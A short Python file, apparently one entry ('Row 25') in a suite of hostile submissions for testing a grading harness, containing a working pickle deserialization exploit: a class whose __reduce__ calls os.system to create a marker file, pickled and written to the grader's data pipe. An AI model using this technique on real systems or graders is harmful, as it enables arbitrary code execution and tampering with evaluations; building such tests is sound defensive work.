"""Row 25: a pickle written to the data pipe, hoping the grader unpickles it."""
BASE = "solutions"
SCORE = 0
FORMS = ("py",)
# ---- attack
import os as _os
import pickle as _pickle
import sys as _sys


class _Boom:
    def __reduce__(self):
        return (_os.system, ("touch /tmp/jaxkit-pwned-by-pickle",))


_os.write(int(_sys.argv[2]), _pickle.dumps(_Boom()) + b"\n")
